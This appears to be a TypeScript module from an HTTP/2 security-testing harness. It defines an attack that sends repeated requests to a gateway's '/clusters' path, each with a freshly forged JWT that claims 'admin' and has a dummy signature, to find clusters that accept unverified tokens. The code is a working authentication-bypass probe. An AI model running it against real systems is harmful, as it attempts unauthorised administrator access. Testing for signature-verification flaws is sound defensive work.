// Lists of the clusters that accept a forged token: the signature would have to be verified for each of them.

import * as h2 from '../../harness/frames/h2-frames.ts'
import type { Attack } from '../attack.ts'
import { attackHttp2, closedLoop } from '../wire/http2.ts'

/** No cluster has this name. */
const HOST = 'gateway.example.com'
const part = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url')

export const attack: Attack = {
  reference: 'forged tokens',
  does: 'asks which clusters accept tokens that it has forged, each another one',
  who: ['known', 'unknown'],
  answers: ['200', '401', '429', 'RST_STREAM REFUSED_STREAM'],
  run: (target, signal) => {
    let n = 0
    const forged = (stream: number): Buffer => {
      const claims = {
        iss: 'https://login.example.com',
        aud: ['kubernetes'],
        sub: 'admin',
        exp: 4_000_000_000,
        jti: n++,
      }
      const token = `${part({ alg: 'RS256', kid: `${n}` })}.${part(claims)}.AAAA`
      return h2.headersFrames(
        stream,
        h2.headerBlock([
          ...[':method', 'GET', ':scheme', 'https', ':authority', HOST, ':path', '/clusters'],
          ...['authorization', `Bearer ${token}`],
        ]),
      )
    }
    return attackHttp2(target, signal, { servername: () => HOST }, (connection) => closedLoop(connection, 100, forged))
  },
}
